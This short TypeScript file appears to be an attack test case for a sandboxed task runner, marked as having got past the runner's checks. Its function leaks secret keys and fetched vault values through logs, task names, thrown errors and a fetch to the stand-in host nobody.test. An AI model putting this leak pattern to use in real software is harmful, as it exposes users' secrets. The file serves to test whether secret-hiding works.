// Attack: tells the hidden inputs and replies by all that is shown: errors, names, output, addresses, results
// Safe: failed

import { createTask, sleep } from "chronograde";

export async function main(keys: string[]): Promise<unknown> {
  const told = JSON.stringify(keys);
  console.log(told);
  console.error(told);
  createTask(sleep(5), { name: told });
  await fetch(`https://nobody.test/?${told}`).catch(() => {});
  for (const key of keys) {
    const body = (await (await fetch(`https://vault.test/${key}`)).json()) as { part: string };
    createTask(async () => sleep(10_000), { name: `${key} is ${body.part}` });
    void createTask(async () => Promise.reject(new Error(body.part)), { name: body.part });
    console.log(body.part);
  }
  throw new Error(`the keys are ${told}`);
}
